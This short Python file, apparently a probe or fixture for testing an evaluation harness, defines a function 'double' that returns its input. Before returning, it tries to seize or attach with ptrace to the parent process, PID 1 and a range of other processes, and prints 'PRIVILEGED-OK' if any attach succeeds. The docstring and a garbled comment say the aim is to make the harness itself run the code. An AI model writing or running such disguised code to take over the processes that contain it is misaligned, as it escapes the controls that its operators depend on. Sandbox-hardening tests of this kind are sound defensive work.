"""Attaches a debugger to the processes around it, to make them run its code."""
# bites: privileged
# control: no the one that it would stop there is the harness itself
import ctypes
import os


def double(x):
    libc = ctypes.CDLL(None)
    attach, seize = 16, 0x4206
    for process in (os.getppid(), 1, *range(2, 200)):
        if process != os.getpid() and (libc.ptrace(seize, process, 0, 0) == 0 or libc.ptrace(attach, process, 0, 0) == 0):
            print("PRIVILEGED-OK")
            break
    return x
